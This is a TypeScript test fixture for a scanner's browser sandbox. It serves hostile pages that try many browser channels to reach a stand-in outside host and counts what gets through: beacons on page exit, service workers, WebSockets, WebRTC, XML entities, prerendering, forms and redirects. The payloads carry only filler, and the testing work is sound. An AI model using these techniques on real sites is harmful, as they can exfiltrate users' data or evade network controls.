/**
 * Pages that make the browser send something to hosts that have nothing to do with the scanned business. Each row is a page of the business
 * (https, a host of its own) and a stranger of its own (https too, or plain), who counts connections, requests, upgrades and datagrams.
 */
import { createSocket } from 'node:dgram';
import { createServer as createHttpServer, type IncomingMessage, type ServerResponse } from 'node:http';
import { createServer as createHttpsServer } from 'node:https';
import type { AddressInfo, Server } from 'node:net';
import type { TLSSocket } from 'node:tls';
import { certificateFor, throwAwayAuthority } from '../../worlds/lib/certificates.ts';

export interface Place {
  /** Origin of the page, https. */
  self: string;
  /** Origin of the stranger, https; `plain` is the same host over http. */
  stranger: string;
  plain: string;
  /** Host name of the stranger. */
  host: string;
  /** Address and UDP port of the stranger, for what needs no name. */
  address: string;
}

type Answer = string | { status?: number; headers?: Record<string, string>; body?: string };

export interface Attack {
  name: string;
  pages: (at: Place) => Record<string, Answer>;
}

const doc = (body: string, head = ''): string =>
  `<!doctype html><html><head><title>Docs</title>${head}</head><body><div id="root">Words that stay</div>${body}</body></html>`;
const script = (code: string): string => doc(`<script>${code}</script>`);
const js = (body: string): Answer => ({ headers: { 'content-type': 'text/javascript' }, body });
const one =
  (make: (at: Place) => Answer) =>
  (at: Place): Record<string, Answer> => ({ '/': make(at) });

export const attacks: readonly Attack[] = [
  {
    name: 'pagehide and sendBeacon, navigating every 150 ms',
    pages: one(({ stranger }) =>
      script(
        `addEventListener('pagehide', () => { for (let i = 0; i < 8; i += 1) navigator.sendBeacon('${stranger}/b' + i, 'x'.repeat(1000)) }); setTimeout(() => { location.href = location.pathname + '?' + Math.random() }, 150)`,
      ),
    ),
  },
  {
    name: 'keepalive fetch on leaving, navigating every 150 ms',
    pages: one(({ stranger }) =>
      script(
        `addEventListener('pagehide', () => { for (let i = 0; i < 8; i += 1) fetch('${stranger}/k' + i, { method: i % 2 ? 'POST' : 'GET', mode: 'no-cors', keepalive: true, ...(i % 2 && { body: 'x' }) }) }); setTimeout(() => { location.href = location.pathname + '?' + Math.random() }, 150)`,
      ),
    ),
  },
  {
    name: 'frames that send beacons as they go',
    pages: ({ self, stranger }) => ({
      '/': script(
        `setInterval(() => { const f = document.createElement('iframe'); f.src = '${self}/frame'; document.body.append(f); setTimeout(() => f.remove(), 100) }, 150)`,
      ),
      '/frame': script(
        `const go = () => { navigator.sendBeacon('${stranger}/b', 'x'); fetch('${stranger}/k', { method: 'POST', mode: 'no-cors', keepalive: true, body: 'x' }) }; addEventListener('pagehide', go); addEventListener('unload', go); document.addEventListener('visibilitychange', go)`,
      ),
    }),
  },
  {
    name: 'sendBeacon, fetchLater and ping while the page stays',
    pages: one(({ stranger }) =>
      doc(
        `<a id="a" ping="${stranger}/ping" href="#x">x</a><script>a.click(); navigator.sendBeacon('${stranger}/b', 'x'); try { fetchLater('${stranger}/later', { method: 'POST', body: 'x', activateAfter: 0 }) } catch {}</script>`,
      ),
    ),
  },
  {
    name: 'import map that leads modules elsewhere',
    pages: one(({ stranger }) =>
      doc(
        `<script type="module">import('pear').catch(() => 0); import('apple/x.js').catch(() => 0)</script>`,
        `<script type="importmap">{"imports":{"pear":"${stranger}/m.js","apple/":"${stranger}/a/"},"integrity":{"${stranger}/m.js":"sha384-x"}}</script><link rel="modulepreload" href="${stranger}/p.js">`,
      ),
    ),
  },
  {
    name: 'fenced frame, portal and picture in picture',
    pages: one(({ stranger }) =>
      doc(
        `<fencedframe id="f" mode="opaque-ads"></fencedframe><portal src="${stranger}/portal"></portal><script>try { f.config = new FencedFrameConfig('${stranger}/fenced') } catch {} f.src = '${stranger}/f'; window.documentPictureInPicture?.requestWindow().then((w) => { w.location = '${stranger}/pip' }, () => 0)</script>`,
      ),
    ),
  },
  {
    name: 'XML with a style sheet, a transformation and entities',
    pages: ({ self, stranger }) => ({
      '/': doc(`<iframe src="${self}/x.xml"></iframe><object data="${self}/x.svg"></object>`),
      '/x.xml': {
        headers: { 'content-type': 'text/xml' },
        body: `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${stranger}/s.xsl"?><?xml-stylesheet type="text/css" href="${stranger}/s.css"?><!DOCTYPE a [<!ENTITY e SYSTEM "${stranger}/e.txt">]><a>&e;<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="${stranger}/i.xml"/></a>`,
      },
      '/x.svg': {
        headers: { 'content-type': 'image/svg+xml' },
        body: `<svg xmlns="http://www.w3.org/2000/svg"><script href="${stranger}/s.js"/><use href="${stranger}/u.svg#a"/><image href="${stranger}/i.png"/><style>@import url(${stranger}/c.css)</style></svg>`,
      },
    }),
  },
  {
    name: 'navigation API, document.open and history over blob and data',
    pages: one(({ stranger }) =>
      script(
        `const html = "<script>fetch('${stranger}/b', { mode: 'no-cors' }); new Image().src = '${stranger}/i'; location = '${stranger}/l'<\\/script>"; open(URL.createObjectURL(new Blob([html], { type: 'text/html' }))); const f = document.createElement('iframe'); f.src = 'data:text/html,' + encodeURIComponent(html); document.body.append(f); const g = document.createElement('iframe'); document.body.append(g); g.contentDocument.open(); g.contentDocument.write(html); g.contentDocument.close(); setTimeout(() => navigation?.navigate('${stranger}/n').committed?.catch(() => 0), 300)`,
      ),
    ),
  },
  {
    name: 'identity, push, background fetch and payment',
    pages: ({ stranger }) => ({
      '/': script(
        `navigator.credentials?.get({ identity: { providers: [{ configURL: '${stranger}/fedcm.json', clientId: 'x' }] } }).catch(() => 0); navigator.serviceWorker?.register('/sw.js').then(() => navigator.serviceWorker.ready).then((r) => { r.backgroundFetch?.fetch('x', '${stranger}/bg').catch(() => 0); r.pushManager?.subscribe({ userVisibleOnly: true, applicationServerKey: new Uint8Array(65) }).catch(() => 0); r.sync?.register('x').catch(() => 0) }).catch(() => 0); try { new PaymentRequest([{ supportedMethods: '${stranger}/pay' }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment().catch(() => 0) } catch {}`,
      ),
      '/sw.js': js(`self.addEventListener('install', () => fetch('${stranger}/sw', { mode: 'no-cors' }))`),
    }),
  },
  {
    name: 'posters, tracks, sets of pictures, MathML and icons that change',
    pages: one(({ stranger }) =>
      doc(
        `<video poster="${stranger}/p.png" autoplay><source src="${stranger}/v.mp4"><track default src="${stranger}/t.vtt"></video><picture><source srcset="${stranger}/s.webp 1x"><img src="x:" srcset="${stranger}/i.png 1x"></picture><math><mtext href="${stranger}/m">x</mtext></math><input type="image" src="${stranger}/in.png"><body background="${stranger}/bg.png"><div style="background:image-set('${stranger}/a.png' 1x);mask:url(${stranger}/m.svg#x);cursor:url(${stranger}/c.cur),auto;list-style:url(${stranger}/l.png)">x</div><script>setInterval(() => { const l = document.createElement('link'); l.rel = 'icon'; l.href = '${stranger}/f.ico?' + Math.random(); document.head.append(l) }, 100)</script>`,
        `<link rel="compression-dictionary" href="${stranger}/d"><link rel="apple-touch-icon" href="${stranger}/t.png"><link rel="search" type="application/opensearchdescription+xml" href="${stranger}/o.xml">`,
      ),
    ),
  },
  {
    name: 'form in a frame, with a target, by a button of another form, and printing',
    pages: one(({ stranger }) =>
      doc(
        `<iframe name="t"></iframe><form id="g" action="${stranger}/get" target="t"><input name="a" value="b"></form><form id="p" method="post" action="${stranger}/post" enctype="text/plain" target="t"><input name="a" value="b"></form><form id="d" method="dialog"><button id="b" formaction="${stranger}/button" formmethod="post" formtarget="_blank">x</button></form><script>g.submit(); p.submit(); d.requestSubmit(b); print(); addEventListener('beforeprint', () => { new Image().src = '${stranger}/print' })</script>`,
      ),
    ),
  },
  {
    name: 'WebSocket frames',
    pages: one(({ stranger, plain }) =>
      script(
        `for (const u of ['${stranger}', '${plain}']) { const w = new WebSocket(u.replace('http', 'ws') + '/'); w.onopen = () => setInterval(() => w.send('x'.repeat(1000)), 10) }`,
      ),
    ),
  },
  {
    name: 'WebSocket of a worker',
    pages: ({ self, stranger }) => ({
      '/': script(`new Worker('${self}/w.js'); try { new SharedWorker('${self}/w.js') } catch {}`),
      '/w.js': js(
        `const w = new WebSocket('${stranger}/'.replace('http', 'ws')); w.onopen = () => setInterval(() => w.send('x'), 10)`,
      ),
    }),
  },
  {
    name: 'WebSocketStream, WebTransport and EventSource',
    pages: one(({ stranger }) =>
      script(
        `new EventSource('${stranger}/e'); try { new WebTransport('${stranger}/t') } catch {} try { new WebSocketStream('${stranger}/'.replace('http', 'ws')) } catch {}`,
      ),
    ),
  },
  {
    name: 'WebRTC by STUN and TURN',
    pages: one(({ address, host }) =>
      script(
        `const p = new RTCPeerConnection({ iceServers: [{ urls: ['stun:${address}', 'turn:${address}?transport=udp', 'turn:${address}?transport=tcp', 'turns:${host}:443?transport=tcp'], username: 'a', credential: 'b' }] }); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o))`,
      ),
    ),
  },
  {
    name: 'service worker',
    pages: ({ self, stranger }) => ({
      '/': script(
        `navigator.serviceWorker.register('${self}/sw.js').then((r) => { r.update(); setInterval(() => fetch('${self}/x?' + Math.random()), 100) })`,
      ),
      '/sw.js': js(
        `const go = () => { for (const m of ['GET', 'POST']) fetch('${stranger}/sw', { method: m, mode: 'no-cors' }) }; self.addEventListener('install', (e) => { self.skipWaiting(); go() }); self.addEventListener('activate', (e) => { e.waitUntil(clients.claim()); go() }); self.addEventListener('fetch', (e) => { go() }); setInterval(go, 200); go(); try { importScripts('${stranger}/i.js') } catch {}`,
      ),
      '/x': 'x',
    }),
  },
  {
    name: 'service worker of a frame that undoes the lock',
    pages: ({ self, stranger }) => ({
      '/': doc(
        '<iframe id="f" srcdoc="x"></iframe>',
        `<script>addEventListener('load', () => { const c = f.contentWindow; for (const r of [c.ServiceWorkerContainer.prototype.register, ServiceWorkerContainer.prototype.register]) r.call(navigator.serviceWorker, '${self}/sw.js').catch(() => {}) })</script>`,
      ),
      '/sw.js': js(`setInterval(() => fetch('${stranger}/sw', { method: 'POST', mode: 'no-cors' }), 100)`),
    }),
  },
  {
    name: 'fetch and XMLHttpRequest of every method',
    pages: one(({ stranger, plain }) =>
      script(
        `for (const o of ['${stranger}', '${plain}']) for (const method of ['GET', 'HEAD', 'POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS', 'QUERY', 'PROPFIND']) { fetch(o + '/' + method, { method, mode: 'cors' }).catch(() => {}); fetch(o + '/nc', { method, mode: 'no-cors' }).catch(() => {}); const x = new XMLHttpRequest(); x.open(method, o + '/x' + method); x.setRequestHeader('x-a', 'b'); x.send() }`,
      ),
    ),
  },
  {
    name: 'fetch of a worker, importScripts and import()',
    pages: ({ self, stranger }) => ({
      '/': doc(
        `<script>new Worker('${self}/w.js')</script><script type="module">import('${stranger}/m.js')</script><script type="module" src="${stranger}/s.js"></script>`,
      ),
      '/w.js': js(
        `for (const method of ['GET', 'POST']) setInterval(() => fetch('${stranger}/w', { method, mode: 'no-cors' }), 50); importScripts('${stranger}/i.js')`,
      ),
    }),
  },
  {
    name: 'images, media, fonts, styles and scripts',
    pages: one(({ stranger, plain }) =>
      doc(
        `<img src="${stranger}/1"><img srcset="${plain}/2 2x"><video src="${stranger}/3" poster="${stranger}/4" autoplay muted></video><audio src="${stranger}/5" preload="auto"></audio><script src="${stranger}/6.js"></script><div style="background:url(${stranger}/7)">x</div><p style="font-family:f">x</p><object data="${stranger}/8"></object><embed src="${stranger}/9"><iframe src="${stranger}/10"></iframe><input type="image" src="${stranger}/11"><svg><use href="${stranger}/12#a"/><image href="${stranger}/13"/></svg><script>new Image().src = '${stranger}/14'</script>`,
        `<link rel="stylesheet" href="${stranger}/a.css"><style>@import url(${stranger}/b.css); @font-face{font-family:f;src:url(${stranger}/f.woff2)} body{background:url(${stranger}/c)}</style><link rel="icon" href="${stranger}/i.ico"><link rel="manifest" href="${stranger}/m.json">`,
      ),
    ),
  },
  {
    name: 'prefetch, preload, preconnect, dns-prefetch and prerender',
    pages: one(({ stranger, plain }) => ({
      headers: {
        link: `<${stranger}/h.js>; rel=preload; as=script, <${stranger}>; rel=preconnect, <${plain}>; rel=dns-prefetch, <${stranger}/n>; rel=prefetch`,
        'speculation-rules': `"${stranger}/rules.json"`,
      },
      body: doc(
        `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${stranger}/sp"],"eagerness":"immediate"}],"prerender":[{"source":"list","urls":["${stranger}/sr"],"eagerness":"immediate"}]}</script>`,
        `<link rel="prefetch" href="${stranger}/p"><link rel="preload" as="script" href="${stranger}/q.js"><link rel="modulepreload" href="${stranger}/r.js"><link rel="preconnect" href="${stranger}"><link rel="preconnect" href="${stranger}" crossorigin><link rel="dns-prefetch" href="${plain}"><link rel="prerender" href="${stranger}/pr"><link rel="next" href="${stranger}/next">`,
      ),
    })),
  },
  {
    name: 'prerendered page of the business that sends',
    pages: ({ self, stranger }) => ({
      '/': doc(
        `<script type="speculationrules">{"prerender":[{"source":"list","urls":["${self}/pre"],"eagerness":"immediate"}]}</script>`,
      ),
      '/pre': script(
        `fetch('${stranger}/p', { mode: 'no-cors' }); navigator.sendBeacon('${stranger}/p', 'x'); new Image().src = '${stranger}/pi'`,
      ),
    }),
  },
  {
    name: 'forms that send themselves',
    pages: one(({ stranger, plain }) =>
      doc(
        ['get', 'post']
          .flatMap((method) =>
            [stranger, plain].flatMap((origin) =>
              ['', '_blank', 'f'].map(
                (target) =>
                  `<form method="${method}" action="${origin}/form" target="${target}"><input name="a" value="b"></form>`,
              ),
            ),
          )
          .join('') + '<iframe name="f"></iframe><script>for (const f of document.forms) f.submit()</script>',
      ),
    ),
  },
  {
    name: 'popups',
    pages: ({ self, stranger }) => ({
      '/': doc(
        `<a id="a" target="_blank" rel="noopener" href="${stranger}/noopener">x</a><script>a.click(); open('${stranger}/o'); open('${stranger}/n', '', 'noopener'); open('${self}/own'); const w = open('about:blank'); w?.document.write("<script>fetch('${stranger}/w', { mode: 'no-cors', method: 'POST' })<\\/script>")</script>`,
      ),
      '/own': script(
        `setInterval(() => { navigator.sendBeacon('${stranger}/own', 'x'); fetch('${stranger}/own', { mode: 'no-cors' }) }, 20)`,
      ),
    }),
  },
  {
    name: 'meta refresh',
    pages: one(({ stranger }) => doc('', `<meta http-equiv="refresh" content="0; url=${stranger}/">`)),
  },
  {
    name: 'Refresh field',
    pages: one(({ stranger }) => ({ headers: { refresh: `0; url=${stranger}/` }, body: doc('') })),
  },
  { name: 'location =', pages: one(({ stranger }) => script(`location = '${stranger}/'`)) },
  {
    name: 'location = again and again',
    pages: one(({ stranger }) => script(`setInterval(() => { location = '${stranger}/' + Math.random() }, 20)`)),
  },
  {
    name: 'redirect of the page',
    pages: one(({ stranger }) => ({ status: 302, headers: { location: `${stranger}/` } })),
  },
  {
    name: 'redirects of what the page asks for',
    pages: ({ self, stranger }) => ({
      '/': doc(
        `<script src="${self}/go"></script><iframe src="${self}/go"></iframe><script>fetch('${self}/go', { mode: 'no-cors' }); fetch('${self}/go307', { method: 'POST', body: 'x', mode: 'no-cors' }); new Image().src = '${self}/go'; new Worker('${self}/go')</script>`,
        `<link rel="stylesheet" href="${self}/go">`,
      ),
      '/go': { status: 302, headers: { location: `${stranger}/redirected` } },
      '/go307': { status: 307, headers: { location: `${stranger}/redirected` } },
    }),
  },
  {
    name: 'policy reports, NEL and reporting endpoints',
    pages: one(({ stranger }) => ({
      headers: {
        'content-security-policy': `img-src 'none'; report-uri ${stranger}/csp; report-to default`,
        'reporting-endpoints': `default="${stranger}/r"`,
        'report-to': `{"group":"default","max_age":1000,"endpoints":[{"url":"${stranger}/r"}]}`,
        nel: '{"report_to":"default","max_age":1000,"success_fraction":1}',
        'alt-svc': `h3="${new URL(stranger).host}:443"; ma=1000`,
      },
      body: doc('<img src="/x.png"><script>setInterval(() => { throw new Error(1) }, 10)</script>'),
    })),
  },
  {
    name: 'federated sign-in, payment and storage of credentials',
    pages: one(({ stranger }) =>
      script(
        `try { navigator.credentials.get({ identity: { mode: 'active', providers: [{ configURL: '${stranger}/fedcm.json', clientId: 'x' }] } }) } catch {} try { new PaymentRequest([{ supportedMethods: '${stranger}/pay' }], { total: { label: 'x', amount: { currency: 'USD', value: '1' } } }).canMakePayment() } catch {} try { navigator.credentials.get({ publicKey: { challenge: new Uint8Array(8), rpId: '${new URL(stranger).host}' } }) } catch {}`,
      ),
    ),
  },
  {
    name: 'attribution, shared storage, auctions and topics',
    pages: one(({ stranger }) =>
      doc(
        `<img attributionsrc="${stranger}/attr" src="data:,"><a id="a" attributionsrc="${stranger}/attr2" href="#x">x</a><iframe browsingtopics src="${stranger}/topics"></iframe><script>a.click(); try { window.sharedStorage?.createWorklet('${stranger}/w.js') } catch {} try { navigator.joinAdInterestGroup?.({ owner: '${stranger}', name: 'x', biddingLogicURL: '${stranger}/bid.js' }, 1000) } catch {} try { fetch('${stranger}/t', { browsingTopics: true, attributionReporting: { eventSourceEligible: true, triggerEligible: false } }) } catch {}</script>`,
      ),
    ),
  },
  {
    name: 'downloads',
    pages: one(({ stranger }) =>
      doc(
        `<a id="a" download="x" href="${stranger}/file">x</a><script>a.click(); setInterval(() => a.click(), 100)</script>`,
      ),
    ),
  },
];

/** What a stranger has seen. */
export interface Seen {
  connections: number;
  requests: number;
  datagrams: number;
  /** The first few, for the message of a test that fails. */
  first: string[];
}

/** One request that the business itself has seen. */
export interface OwnRequest {
  row: number;
  method: string;
  path: string;
  userAgent: string;
}

export interface Strangers {
  /** PEM of the authority behind every certificate here. */
  ca: string;
  /** Where the names of this yard are. */
  connectTo(host: string, port: number): { host: string; port: number } | null;
  placeOf(row: number): Place;
  seen(row: number): Seen;
  readonly own: readonly OwnRequest[];
  /** Everything that strangers have seen so far, by any name. */
  total(): Seen;
  forget(): void;
  close(): Promise<void>;
}

export const ownDomain = 'outbound-yard.com';
const strangerDomain = 'stranger-yard.net';
const nothing = (): Seen => ({ connections: 0, requests: 0, datagrams: 0, first: [] });
const address = '127.0.0.6';

function listen(server: Server, host: string): Promise<number> {
  return new Promise((resolve, reject) => {
    server.once('error', reject);
    server.listen(0, host, () => resolve((server.address() as AddressInfo).port));
  });
}

/** Opens the business's host and the strangers' on loopback. */
export async function openStrangers(rows: readonly Attack[] = attacks): Promise<Strangers> {
  const { certificate } = await throwAwayAuthority();
  const counts = new Map<string, Seen>();
  const own: OwnRequest[] = [];
  const nameOf = (row: number): string => `s${row}.${strangerDomain}`;
  const of = (name: string): Seen => {
    const known = counts.get(name) ?? nothing();
    counts.set(name, known);
    return known;
  };
  const placeOf = (row: number): Place => ({
    self: `https://r${row}.${ownDomain}`,
    stranger: `https://${nameOf(row)}`,
    plain: `http://${nameOf(row)}`,
    host: nameOf(row),
    address: `${address}:${udpPort}`,
  });
  const site = (request: IncomingMessage, response: ServerResponse): void => {
    const row = Number(/^r(\d+)\./.exec(request.headers.host ?? '')?.[1] ?? -1);
    const path = request.url ?? '/';
    own.push({ row, method: request.method ?? '', path, userAgent: request.headers['user-agent'] ?? '' });
    const answer = rows[row]?.pages(placeOf(row))[path.split('?')[0] ?? ''];
    const {
      status = 200,
      headers = {},
      body = '',
    } = typeof answer === 'string' ? { body: answer } : (answer ?? { status: 404 });
    response.writeHead(status, { 'content-type': 'text/html; charset=utf-8', ...headers }).end(body);
  };
  const strange = (request: IncomingMessage, response: ServerResponse): void => {
    const seen = of((request.headers.host ?? '').split(':')[0] ?? '');
    seen.requests += 1;
    if (seen.first.length < 5) seen.first.push(`${request.method} ${request.url} ${request.headers['user-agent']}`);
    response.writeHead(200, { 'content-type': 'text/html', 'access-control-allow-origin': '*' }).end('<p>STRANGER</p>');
  };
  const names = rows.flatMap((_, row) => [`r${row}.${ownDomain}`, nameOf(row)]);
  const business = createHttpsServer(await certificateFor(names), site);
  const secure = createHttpsServer(await certificateFor(names), strange);
  const plain = createHttpServer(strange);
  secure.on('secureConnection', (socket: TLSSocket) => {
    of(socket.servername || '?').connections += 1;
  });
  for (const server of [secure, plain])
    server.on('upgrade', (request: IncomingMessage, socket) => {
      of((request.headers.host ?? '').split(':')[0] ?? '').requests += 1;
      socket.destroy();
    });
  // Also what never gets as far as a name counts.
  for (const server of [secure, plain]) server.on('connection', () => (of('anybody').connections += 1));
  const udp = createSocket('udp4');
  udp.on('message', () => (of('anybody').datagrams += 1));
  const [businessPort, securePort, plainPort] = [
    await listen(business, '127.0.0.5'),
    await listen(secure, address),
    await listen(plain, address),
  ];
  await new Promise<void>((resolve) => udp.bind(securePort, address, resolve));
  const udpPort = securePort;
  return {
    ca: certificate,
    own,
    placeOf,
    connectTo(host, port) {
      if (host.endsWith(`.${ownDomain}`)) return { host: '127.0.0.5', port: businessPort };
      if (host.endsWith(`.${strangerDomain}`)) return { host: address, port: port === 80 ? plainPort : securePort };
      return null;
    },
    seen: (row) => of(nameOf(row)),
    total: () => {
      const sum = nothing();
      for (const [name, seen] of counts) {
        sum.datagrams += seen.datagrams;
        sum.requests += seen.requests;
        if (name === 'anybody') sum.connections += seen.connections;
      }
      return sum;
    },
    forget() {
      counts.clear();
      own.length = 0;
    },
    async close() {
      for (const server of [business, secure, plain]) {
        server.closeAllConnections();
        await new Promise<void>((resolve) => server.close(() => resolve()));
      }
      await new Promise<void>((resolve) => udp.close(() => resolve()));
    },
  };
}
